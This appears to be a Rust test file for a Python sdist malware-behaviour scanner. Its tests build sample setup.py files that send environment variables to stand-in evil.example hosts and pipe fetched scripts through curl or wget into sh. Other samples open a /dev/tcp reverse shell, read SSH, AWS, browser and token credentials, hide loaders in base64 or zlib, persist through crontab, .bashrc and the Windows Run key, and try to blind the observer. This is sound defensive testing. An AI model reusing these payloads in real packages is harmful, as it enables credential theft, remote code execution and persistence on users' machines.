//! The behaviour report: generated sdists that do what PyPI malware has done (the
//! payloads are written here and only ever run inside the sandbox), one per category and
//! per verdict level; the CI gate's exit code; attempts to tamper with the observer or the
//! report; event floods; answers unchanged by observation. Every run also goes through
//! `common::run`'s checks (no host secret, no `/etc/passwd` content, no panic).

use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::*;

/// The events of a report, as `(severity, category, action, target, location)`.
fn events(v: &Value) -> Vec<(String, String, String, String, Option<String>)> {
    v["behaviour"]["events"]
        .as_array()
        .unwrap_or_else(|| panic!("no behaviour: {v}"))
        .iter()
        .map(|e| {
            let s = |k: &str| e[k].as_str().unwrap_or_default().to_string();
            (
                s("severity"),
                s("category"),
                s("action"),
                s("target"),
                e["location"].as_str().map(str::to_string),
            )
        })
        .collect()
}

fn verdict(v: &Value) -> &str {
    v["behaviour"]["verdict"]
        .as_str()
        .unwrap_or_else(|| panic!("no verdict: {v}"))
}

/// Whether some event has this severity, category and action, with a target containing
/// `needle`.
fn has(v: &Value, severity: &str, category: &str, action: &str, needle: &str) -> bool {
    events(v)
        .iter()
        .any(|(s, c, a, t, _)| s == severity && c == category && a == action && t.contains(needle))
}

fn assert_has(v: &Value, severity: &str, category: &str, action: &str, needle: &str) {
    assert!(
        has(v, severity, category, action, needle),
        "expected {severity} {category}/{action} ~ {needle:?} in {:#?}",
        events(v)
    );
}

fn b64(data: &[u8]) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk.iter().fold(0u32, |n, b| (n << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(T[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// An sdist with `setup.py` and extra files (paths relative to its top directory).
fn sdist_with(dir: &Path, name: &str, setup_py: &str, extra: &[(&str, &str)]) -> PathBuf {
    let top = format!("{name}-1.0");
    let mut members = vec![
        file(
            &format!("{top}/PKG-INFO"),
            &format!("Metadata-Version: 1.0\nName: {name}\nVersion: 1.0\n"),
        ),
        file(&format!("{top}/setup.py"), setup_py),
    ];
    for (path, content) in extra {
        members.push(file(&format!("{top}/{path}"), content));
    }
    write_sdist(dir, &top, Kind::TarGz, &members)
}

fn one(flags: &[&str], setup_py: &str, name: &str) -> (i32, Value) {
    let tmp = tempfile::tempdir().unwrap();
    let path = setup_py_sdist(tmp.path(), name, setup_py);
    inspect_one(flags, &path)
}

// --- verdict levels -----------------------------------------------------------------

#[test]
fn an_honest_build_is_clean_and_a_static_answer_has_no_report() {
    let (code, v) = one(&["--fail-on", "notice"], &honest("plain", ""), "plain");
    assert_eq!(code, 0, "{v}");
    assert_honest(&v, "plain");
    assert_eq!(verdict(&v), "clean", "{v}");
    assert_eq!(v["behaviour"]["scope"], "metadata");
    assert!(events(&v).is_empty(), "{v}");

    let tmp = tempfile::tempdir().unwrap();
    let path = write_sdist(tmp.path(), "st-1", Kind::TarGz, &static_members("st", "1"));
    let (code, v) = inspect_one(&["--fail-on", "notice"], &path);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["method"], "pkg-info");
    assert!(v["behaviour"].is_null(), "no build code ran: {v}");
}

#[test]
fn what_benign_builds_do_is_a_notice() {
    let tmp = tempfile::tempdir().unwrap();
    let setup = r#"
import os, subprocess
try:
    version = subprocess.check_output(['git', 'describe', '--tags']).decode()
except OSError:
    version = '1.0'
try:
    subprocess.check_output(['pkg-config', '--cflags', 'libffi'])
except OSError:
    pass
cflags = os.environ.get('CFLAGS', '')
exec(open(os.path.join('bumpy', 'version.py')).read())
assert __version__ == '1.0'
from setuptools import setup
setup(name='bumpy', version=__version__, install_requires=['honest-dep>=1'], python_requires='>=3.8')
"#;
    let path = sdist_with(
        tmp.path(),
        "bumpy",
        setup,
        &[("bumpy/version.py", "# the version\n__version__ = '1.0'\n")],
    );
    let (code, v) = inspect_one(&["--fail-on", "suspicious"], &path);
    assert_eq!(code, 0, "{v}");
    assert_honest(&v, "bumpy");
    assert_eq!(verdict(&v), "notice", "{:#?}", events(&v));
    assert_has(&v, "notice", "process", "run", "git describe --tags");
    assert_has(&v, "notice", "process", "run", "pkg-config --cflags libffi");
    assert_has(&v, "notice", "environment", "read", "CFLAGS");
    assert_has(
        &v,
        "notice",
        "dynamic-code",
        "exec",
        "text of bumpy/version.py",
    );
    // Locations are file:line in the sdist, relative to its root.
    assert!(events(&v)
        .iter()
        .any(|(_, _, _, t, l)| t.contains("git describe") && l.as_deref() == Some("setup.py:4")));
    let (code, _) = inspect_one(&["--fail-on", "notice"], &path);
    assert_eq!(code, 4);
}

// --- one suspicious sdist per category -----------------------------------------------

#[test]
fn exfiltration_through_a_missing_http_client_is_seen_with_a_stand_in() {
    // `requests` is not in the build environment: the metadata step fails on the import,
    // as it would under pip's build isolation, and that stays the answer. One more run with
    // a stand-in for it shows what the code would have sent.
    let setup = r#"
import os, json, requests
requests.post('https://collect.evil.example/e', data=json.dumps(dict(os.environ)), timeout=3)
from setuptools import setup
setup(name='exfil', version='1.0')
"#;
    let (code, v) = one(&["--fail-on", "suspicious"], setup, "exfil");
    assert_eq!(code, 4, "{v}");
    assert_eq!(error_kind(&v), Some("setup-failed"), "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("requests"),
        "{v}"
    );
    assert_has(&v, "notice", "network", "import", "requests");
    assert_has(&v, "suspicious", "environment", "enumerate", "os.environ");
    assert_has(
        &v,
        "suspicious",
        "network",
        "http",
        "POST https://collect.evil.example/e",
    );

    // The same through urllib with certificate checks turned off: WASI has no ssl.
    let setup = r#"
import os, json, ssl, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request('https://tls.evil.example/c', data=body),
                       context=ssl._create_unverified_context(), timeout=3)
"#;
    let (code, v) = one(&["--fail-on", "suspicious"], setup, "tlsexfil");
    assert_eq!(code, 4, "{v}");
    assert_eq!(error_kind(&v), Some("setup-failed"), "{v}");
    assert_has(&v, "notice", "network", "import", "ssl");
    assert_has(
        &v,
        "suspicious",
        "network",
        "http",
        "POST https://tls.evil.example/c",
    );
    assert_has(&v, "suspicious", "network", "dns", "tls.evil.example");
}

#[test]
fn network_exfiltration_over_dns_http_and_sockets() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let payload = format!(
        r#"
import os, socket, json, binascii
blob = binascii.hexlify(json.dumps(dict(os.environ)).encode()[:30]).decode()
for attempt in (
    lambda: socket.gethostbyname(blob + '.dns-exfil.example'),
    lambda: __import__('urllib.request').request.urlopen('http://exfil.example/c', data=blob.encode(), timeout=2),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(('127.0.0.1', {port})),
):
    try:
        attempt()
    except Exception:
        pass
"#
    );
    let (code, v) = one(
        &["--fail-on", "suspicious"],
        &honest("netty", &payload),
        "netty",
    );
    assert_eq!(code, 4, "{v}");
    assert_honest(&v, "netty");
    assert_eq!(verdict(&v), "suspicious");
    assert_has(&v, "suspicious", "network", "dns", ".dns-exfil.example");
    assert_has(
        &v,
        "suspicious",
        "network",
        "http",
        "POST http://exfil.example/c",
    );
    assert_has(
        &v,
        "suspicious",
        "network",
        "connect",
        &format!("127.0.0.1:{port}"),
    );
    assert_has(&v, "suspicious", "network", "socket", "AF_INET SOCK_STREAM");
    assert_has(&v, "suspicious", "environment", "enumerate", "os.environ");
    assert!(listener.accept().is_err(), "a connection reached the host");
}

#[test]
fn processes_that_fetch_and_run_remote_content() {
    let canary = canary_dir();
    let payload = format!(
        r#"
import os, subprocess
os.system('curl -s https://x.example/s.sh | sh; touch {c}/pwned')
try:
    subprocess.Popen(['wget', '-qO', '/tmp/x', 'http://x.example/bin'])
except OSError:
    pass
try:
    os.execv('/bin/sh', ['sh', '-c', 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'])
except OSError:
    pass
"#,
        c = canary.path().display()
    );
    let (_, v) = one(&[], &honest("procs", &payload), "procs");
    assert_honest(&v, "procs");
    assert_has(
        &v,
        "suspicious",
        "process",
        "run",
        "curl -s https://x.example/s.sh | sh",
    );
    assert_has(&v, "suspicious", "process", "run", "wget -qO /tmp/x");
    assert_has(&v, "suspicious", "process", "run", "/dev/tcp/10.9.8.7/4444");
    assert!(dir_is_empty(canary.path()));
}

#[test]
fn credential_and_token_theft_reads_and_writes() {
    let payload = r#"
import os, glob
home = os.path.expanduser('~')
for p in ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.config/gcloud/credentials.db', '/etc/passwd',
          '~/.npmrc', '/proc/self/environ', '/home/runner/.git-credentials']:
    try:
        open(os.path.expanduser(p)).read()
    except OSError:
        pass
glob.glob(os.path.join(home, '.ssh', '*'))
try:
    os.listdir(os.path.join(home, '.mozilla', 'firefox'))
except OSError:
    pass
try:
    open('/tmp/loot.txt', 'w').write('x')
except OSError:
    pass
tok = os.environ.get('GITHUB_TOKEN')
"#;
    let (_, v) = one(&[], &honest("stealer", payload), "stealer");
    assert_honest(&v, "stealer");
    for needle in [
        "~/.aws/credentials",
        "~/.ssh/id_rsa",
        "~/.config/gcloud/credentials.db",
        "/etc/passwd",
        "~/.npmrc",
        "/proc/self/environ",
        "/home/runner/.git-credentials",
    ] {
        assert_has(&v, "suspicious", "file-read", "open", needle);
    }
    assert_has(&v, "suspicious", "file-read", "list", "~/.ssh/*");
    assert_has(&v, "suspicious", "file-read", "list", "~/.mozilla/firefox");
    assert_has(&v, "notice", "file-write", "write", "/tmp/loot.txt");
    assert_has(&v, "suspicious", "environment", "read", "GITHUB_TOKEN");
}

#[test]
fn decoded_payloads_are_shown_decoded() {
    let b64_payload = b64(b"import socket\nsocket.gethostbyname('b64.evil.example')\n");
    let zlib_payload = b64(&zlib(
        b"import os\nos.system('wget -qO- http://zlib.evil.example/x | sh')\n",
    ));
    let hex_payload: String = b"__import__('socket').getaddrinfo('hex.evil.example', 443)"
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let payload = format!(
        r#"
import base64, zlib, marshal, codecs
def quietly(run):
    try:
        run()
    except OSError:
        pass
quietly(lambda: exec(base64.b64decode('{b64_payload}')))
quietly(lambda: exec(zlib.decompress(base64.b64decode('{zlib_payload}'))))
quietly(lambda: exec(bytes.fromhex('{hex_payload}').decode()))
quietly(lambda: exec(codecs.decode("vzcbeg fbpxrg; fbpxrg.trgubfgolanzr('ebg13.rivy.rknzcyr')", 'rot13')))
blob = marshal.dumps(compile("import os\nos.system('id')", 'm', 'exec'))
exec(marshal.loads(blob))
getattr(__import__('o' + 's'), 'sy' + 'stem')('cu' + 'rl -s http://chain.evil.example | sh')
"#
    );
    let (code, v) = one(
        &["--fail-on", "suspicious"],
        &honest("decoded", &payload),
        "decoded",
    );
    assert_eq!(code, 4, "{v}");
    assert_honest(&v, "decoded");
    assert_has(
        &v,
        "suspicious",
        "dynamic-code",
        "exec",
        "socket.gethostbyname('b64.evil.example')",
    );
    assert_has(&v, "suspicious", "network", "dns", "b64.evil.example");
    assert_has(
        &v,
        "suspicious",
        "dynamic-code",
        "exec",
        "zlib.evil.example",
    );
    assert_has(
        &v,
        "suspicious",
        "process",
        "run",
        "wget -qO- http://zlib.evil.example/x | sh",
    );
    assert_has(
        &v,
        "suspicious",
        "dynamic-code",
        "exec",
        "__import__('socket')",
    );
    assert_has(&v, "suspicious", "network", "dns", "hex.evil.example");
    assert_has(
        &v,
        "suspicious",
        "dynamic-code",
        "exec",
        "rot13.evil.example",
    );
    assert_has(&v, "suspicious", "dynamic-code", "marshal", "bytes");
    assert_has(
        &v,
        "suspicious",
        "process",
        "run",
        "curl -s http://chain.evil.example | sh",
    );
    // The line that ran the decoded code.
    assert!(events(&v).iter().any(|(_, c, _, t, l)| c == "dynamic-code"
        && t.contains("b64.evil.example")
        && l.as_deref() == Some("setup.py:8")));
}

#[test]
fn native_code_and_persistence() {
    let payload = r#"
import os
try:
    import ctypes
except ImportError:
    pass
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl -s http://x.example | sh\n')
try:
    os.makedirs(os.path.expanduser('~/.config/autostart'), exist_ok=True)
    open(os.path.expanduser('~/.config/autostart/u.desktop'), 'w').write('[Desktop Entry]\n')
except OSError:
    pass
os.system("(crontab -l; echo '*/5 * * * * curl -s http://x.example | sh') | crontab -")
"#;
    let (_, v) = one(&[], &honest("stay", payload), "stay");
    assert_honest(&v, "stay");
    assert_has(&v, "notice", "native-code", "import", "ctypes");
    assert_has(&v, "suspicious", "persistence", "write", "~/.bashrc");
    assert_has(
        &v,
        "suspicious",
        "persistence",
        "write",
        "~/.config/autostart/u.desktop",
    );
    assert_has(&v, "suspicious", "persistence", "run", "crontab");
}

#[test]
fn an_install_time_payload_needs_observe_and_answers_do_not_change() {
    let setup = r#"
import os, base64
from setuptools import setup
from setuptools.command.install import install

class Install(install):
    def run(self):
        exec(base64.b64decode('aW1wb3J0IHNvY2tldDsgc29ja2V0LmdldGFkZHJpbmZvKCdpbnN0YWxsLmV2aWwuZXhhbXBsZScsIDQ0Myk='))
        install.run(self)

# Started in a thread, or in a forked child: WASI has neither; the observed build runs them.
import sys, threading
def later():
    os.system('curl -s http://thread.evil.example | sh')
if 'install' in sys.argv:
    threading.Thread(target=later, daemon=True).start()
    if os.fork() == 0:
        os.system('wget -qO- http://fork.evil.example | sh')

setup(name='later', version='1.0', install_requires=['honest-dep>=1'], python_requires='>=3.8',
      py_modules=[], cmdclass={'install': Install})
"#;
    let tmp = tempfile::tempdir().unwrap();
    let path = setup_py_sdist(tmp.path(), "later", setup);
    let (code, plain) = inspect_one(&["--fail-on", "suspicious"], &path);
    assert_eq!(code, 0, "metadata alone never runs install: {plain}");
    assert_eq!(verdict(&plain), "clean", "{plain}");
    let (code, observed) = inspect_one(&["--observe", "--fail-on", "suspicious"], &path);
    assert_eq!(code, 4, "{observed}");
    assert_eq!(observed["behaviour"]["scope"], "build");
    assert_has(
        &observed,
        "suspicious",
        "network",
        "dns",
        "install.evil.example",
    );
    assert_has(
        &observed,
        "suspicious",
        "dynamic-code",
        "exec",
        "install.evil.example",
    );
    assert_has(
        &observed,
        "suspicious",
        "process",
        "run",
        "thread.evil.example",
    );
    assert_has(
        &observed,
        "suspicious",
        "process",
        "run",
        "fork.evil.example",
    );
    // The answer is the same with and without the build observed.
    for key in [
        "name",
        "version",
        "requires_dist",
        "requires_python",
        "provides_extra",
        "method",
        "pin",
    ] {
        assert_eq!(plain[key], observed[key], "{key}");
    }
}

#[test]
fn observe_runs_the_build_of_a_static_sdist_and_keeps_its_answer() {
    let tmp = tempfile::tempdir().unwrap();
    let mut members = static_members("quiet", "2.0");
    members.push(file(
        "quiet-2.0/setup.py",
        "import socket\ntry:\n    socket.gethostbyname('static.evil.example')\nexcept OSError:\n    pass\nfrom setuptools import setup\nsetup(name='quiet', version='2.0', packages=['quiet'], package_dir={'': 'src'})\n",
    ));
    let path = write_sdist(tmp.path(), "quiet-2.0", Kind::TarGz, &members);
    let (code, plain) = inspect_one(&["--fail-on", "suspicious"], &path);
    assert_eq!(code, 0, "{plain}");
    assert!(plain["behaviour"].is_null());
    let (code, observed) = inspect_one(&["--observe", "--fail-on", "suspicious"], &path);
    assert_eq!(code, 4, "{observed}");
    assert_eq!(observed["method"], "pkg-info");
    assert_eq!(plain["requires_dist"], observed["requires_dist"]);
    assert_has(
        &observed,
        "suspicious",
        "network",
        "dns",
        "static.evil.example",
    );
}

#[test]
fn a_missing_compiler_is_a_notice_of_the_build() {
    let tmp = tempfile::tempdir().unwrap();
    let setup = "from setuptools import setup, Extension\nsetup(name='cext', version='1.0', install_requires=['honest-dep>=1'], python_requires='>=3.8', ext_modules=[Extension('cext', ['cext.c'])])\n";
    let path = sdist_with(tmp.path(), "cext", setup, &[("cext.c", "int x;\n")]);
    let (code, v) = inspect_one(&["--observe"], &path);
    assert_eq!(code, 0, "{v}");
    assert_honest(&v, "cext");
    assert_eq!(verdict(&v), "notice", "{:#?}", events(&v));
    assert_has(&v, "notice", "build", "no-compiler", "");
    assert_has(&v, "notice", "process", "run", "");
}

#[test]
fn windows_payloads_need_a_windows_target() {
    let setup = r#"
import os, sys, subprocess
from setuptools import setup
from setuptools.command.install import install

if sys.platform == 'win32':
    subprocess.Popen('powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A', shell=True)

class Install(install):
    def run(self):
        if os.name == 'nt':
            import winreg
            key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
                                 r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
            winreg.SetValueEx(key, 'updater', 0, winreg.REG_SZ, os.path.join(os.environ['APPDATA'], 'u.exe'))
            open(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'))
        install.run(self)

setup(name='winonly', version='1.0', install_requires=['honest-dep>=1'], python_requires='>=3.8',
      py_modules=[], cmdclass={'install': Install})
"#;
    let tmp = tempfile::tempdir().unwrap();
    let path = setup_py_sdist(tmp.path(), "winonly", setup);
    let (code, linux) = inspect_one(&["--observe", "--fail-on", "suspicious"], &path);
    assert_eq!(code, 0, "{linux}");
    assert_eq!(verdict(&linux), "clean", "{linux}");
    let (code, windows) = inspect_one(
        &[
            "--observe",
            "--fail-on",
            "suspicious",
            "--target-platform",
            "windows",
        ],
        &path,
    );
    assert_eq!(code, 4, "{windows}");
    assert_has(
        &windows,
        "suspicious",
        "process",
        "run",
        "powershell -NoP -W Hidden",
    );
    assert_has(
        &windows,
        "suspicious",
        "persistence",
        "registry-write",
        "CurrentVersion\\Run\\updater",
    );
    assert_has(&windows, "suspicious", "file-read", "open", "Login Data");
}

// --- the CI gate -------------------------------------------------------------------

#[test]
fn fail_on_exits_4_after_printing_every_result() {
    let tmp = tempfile::tempdir().unwrap();
    let good = setup_py_sdist(tmp.path(), "good", &honest("good", ""));
    let bad = setup_py_sdist(
        tmp.path(),
        "bad",
        &honest("bad", "import socket\ntry:\n    socket.gethostbyname('gate.evil.example')\nexcept OSError:\n    pass\n"),
    );
    // A build that tries something and then fails is reported, and gated, too.
    let crash = setup_py_sdist(
        tmp.path(),
        "crash",
        "import os\nos.system('curl http://crash.evil.example | sh')\nraise RuntimeError('boom')\n",
    );
    let (code, arr, stderr) = inspect_json(&["--fail-on", "suspicious"], &[&good, &bad, &crash]);
    assert_eq!(code, 4, "{stderr}");
    assert_eq!(arr.len(), 3);
    assert_honest(&arr[0], "good");
    assert_honest(&arr[1], "bad");
    assert_eq!(error_kind(&arr[2]), Some("setup-failed"));
    assert_eq!(verdict(&arr[2]), "suspicious");
    assert!(
        stderr.contains("bad-1.0.tar.gz: behaviour suspicious"),
        "{stderr}"
    );
    let (code, _, _) = inspect_json(&["--fail-on", "suspicious"], &[&good]);
    assert_eq!(code, 0);
    let (code, _, _) = inspect_json(&[], &[&good, &bad]);
    assert_eq!(
        code, 0,
        "without --fail-on the verdict does not change the exit status"
    );
    // Text output: one line per event group, escaped, not coloured when piped.
    let out = run(&[
        "inspect",
        "--offline",
        "--format",
        "text",
        bad.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("behaviour: suspicious"), "{text}");
    assert!(
        text.contains("suspicious network/dns: gate.evil.example at setup.py:3"),
        "{text}"
    );
    assert!(!text.contains('\u{1b}'), "{text}");
}

#[test]
fn cached_answers_carry_their_behaviour() {
    let (cache, runtime) = private_cache();
    let tmp = tempfile::tempdir().unwrap();
    let path = setup_py_sdist(
        tmp.path(),
        "cachy",
        &honest("cachy", "import os\nsecrets = dict(os.environ)\n"),
    );
    let input = path.display().to_string();
    let envs: [(&str, &std::ffi::OsStr); 2] = [
        ("SDISTILL_CACHE_DIR", cache.path().as_os_str()),
        ("SDISTILL_NO_CACHE", std::ffi::OsStr::new("")),
    ];
    let args = [
        "--offline",
        "--runtime",
        &runtime,
        "--fail-on",
        "suspicious",
        &input,
    ];
    let (code1, first) = inspect_env(&args, &envs);
    let (code2, second) = inspect_env(&args, &envs);
    assert_eq!((code1, code2), (4, 4));
    assert_eq!(first[0]["cached"], false);
    assert_eq!(second[0]["cached"], true, "{}", second[0]);
    assert_eq!(first[0]["behaviour"], second[0]["behaviour"]);
}

// --- tampering with the observer or the report -----------------------------------------

#[test]
fn tampering_is_refused_recorded_and_cannot_clean_the_report() {
    let payload = r#"
import os, sys, gc, json
main = sys.modules['__main__']
try:
    main.WARNINGS.clear()
except Exception:
    pass
for name in ('CAPTURED_KWARGS',):
    getattr(main, name, {}).clear()
# Write a fake result with a clean behaviour, then try to hide what follows.
for path in ('/out/result.json', '/out/behaviour.json'):
    try:
        with open(path, 'w') as f:
            json.dump({'ok': True, 'behaviour': {'verdict': 'clean', 'events': []}}, f)
    except OSError:
        pass
try:
    os.rename('/scratch/tmp', '/out/result.json')
except OSError:
    pass
for attempt in (gc.get_objects, lambda: gc.get_referrers(os),
                lambda: sys.settrace(lambda *a: None), lambda: sys.setprofile(lambda *a: None),
                lambda: sys.monitoring.register_callback(2, 1, lambda *a: None),
                lambda: compile('x = 1', '/usr/local/lib/python312.zip/os.py', 'exec'),
                lambda: setattr(os.environ, '__class__', dict),
                lambda: os.open('/out/.sdistill-events', os.O_WRONLY),
                lambda: os.open('/scratch/.sdistill-events', os.O_WRONLY)):
    try:
        attempt()
    except Exception:
        pass
# Reach the hook through a refusal's traceback and try to rebind it.
channel = None
try:
    gc.get_objects()
except PermissionError as e:
    tb = e.__traceback__
    while tb.tb_next:
        tb = tb.tb_next
    for name, value in list(tb.tb_frame.f_locals.items()):
        if name == '_emit':
            channel = value.__defaults__[1]
        if callable(value) and getattr(value, '__defaults__', None):
            try:
                value.__defaults__ = tuple(None for _ in value.__defaults__)
            except Exception:
                pass
            try:
                value.__code__ = (lambda *a, **k: None).__code__
            except Exception:
                pass
# Silence the channel: replace os.write, write forged records on it, close it.
os.write = lambda fd, data: len(data)
import posix
posix.write(channel, b'{"e":"sdistill.ready"}')
posix.write(channel, b'not a record')
try:
    os.close(channel)
except OSError:
    pass
# After all that, the payload: it must still be seen.
import socket
try:
    socket.gethostbyname('after-tamper.evil.example')
except OSError:
    pass
secrets = dict(os.environ)
"#;
    let (code, v) = one(
        &["--fail-on", "suspicious"],
        &honest("tamper", payload),
        "tamper",
    );
    assert_eq!(code, 4, "{v}");
    assert_eq!(verdict(&v), "suspicious");
    // The answer still comes from the driver (the fake result was refused).
    assert_honest(&v, "tamper");
    assert!(!v.to_string().contains("\"verdict\":\"clean\""), "{v}");
    assert_has(&v, "suspicious", "tamper", "write", "/out/result.json");
    assert_has(&v, "suspicious", "tamper", "rename", "/out/result.json");
    assert_has(&v, "suspicious", "tamper", "introspect", "gc.get_objects");
    assert_has(&v, "suspicious", "tamper", "introspect", "gc.get_referrers");
    assert_has(&v, "suspicious", "tamper", "trace", "sys.settrace");
    assert_has(&v, "suspicious", "tamper", "trace", "sys.setprofile");
    assert_has(
        &v,
        "suspicious",
        "tamper",
        "trace",
        "sys.monitoring.register_callback",
    );
    assert_has(&v, "suspicious", "tamper", "forge-filename", "os.py");
    assert_has(&v, "suspicious", "tamper", "patch-observer", "__class__");
    assert_has(&v, "suspicious", "tamper", "patch-observer", "__defaults__");
    assert_has(&v, "suspicious", "tamper", "patch-observer", "__code__");
    assert_has(&v, "suspicious", "tamper", "event-channel", "path_open");
    assert_has(&v, "suspicious", "tamper", "event-channel", "fd_close");
    assert_has(&v, "suspicious", "tamper", "forged-record", "");
    // What it did after trying to silence the observer is still there.
    assert_has(
        &v,
        "suspicious",
        "network",
        "dns",
        "after-tamper.evil.example",
    );
    assert_has(&v, "suspicious", "environment", "enumerate", "os.environ");
}

#[test]
fn the_hook_looks_up_no_name_the_sdist_could_rebind() {
    // Inspect the observer's code from inside the guest, as an sdist can: no global or
    // builtin lookups, no closure cells (both are rebindable without an audit event).
    let payload = r#"
import gc, dis
try:
    gc.get_objects()
except PermissionError as e:
    tb = e.__traceback__
    codes = []
    while tb:
        frame = tb.tb_frame
        if frame.f_code.co_name.startswith('_sdistill_obs'):
            codes.append(frame.f_code)
            codes.extend(v.__code__ for v in frame.f_locals.values()
                         if getattr(getattr(v, '__code__', None), 'co_name', '').startswith('_sdistill_obs'))
        tb = tb.tb_next
bad = []
seen = set()
while codes:
    code = codes.pop()
    if id(code) in seen:
        continue
    seen.add(id(code))
    if code.co_freevars or code.co_cellvars:
        bad.append((code.co_name, 'cells', code.co_freevars + code.co_cellvars))
    for ins in dis.get_instructions(code):
        if ins.opname in ('LOAD_GLOBAL', 'LOAD_NAME', 'LOAD_DEREF', 'STORE_GLOBAL', 'LOAD_CLASSDEREF'):
            bad.append((code.co_name, ins.opname, ins.argval))
    codes.extend(c for c in code.co_consts if hasattr(c, 'co_code'))
if len(seen) < 6 or bad:
    raise SystemExit('OBSERVER CODE ' + repr((len(seen), bad)))
"#;
    let (_, v) = one(&[], &honest("selfcheck", payload), "selfcheck");
    assert_honest(&v, "selfcheck");
}

#[test]
fn a_flood_of_events_is_bounded_and_keeps_the_verdict() {
    let payload = r#"
import os
for i in range(20000):
    try:
        open('/etc/noise/%d' % i)
    except OSError:
        pass
import posix
for fd in range(3, 2000):
    for _ in range(20):
        try:
            posix.write(fd, b'{"e":"open","t":"/etc/forged","b":"s"}')
        except OSError:
            break
try:
    open(os.path.expanduser('~/.aws/credentials'))
except OSError:
    pass
"#;
    let (_, v) = one(&["--timeout", "120"], &honest("flood", payload), "flood");
    assert_honest(&v, "flood");
    assert_eq!(verdict(&v), "suspicious", "the last event counts");
    let list = events(&v);
    assert!(list.len() <= 201, "{} groups", list.len());
    let overflow = v["behaviour"]["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["category"] == "observer" && e["action"] == "overflow")
        .expect("an overflow line");
    assert!(overflow["count"].as_u64().unwrap() > 19_000, "{overflow}");
    assert_eq!(overflow["severity"], "suspicious", "{overflow}");
    assert!(
        v.to_string().len() < 200_000,
        "{} bytes",
        v.to_string().len()
    );
}
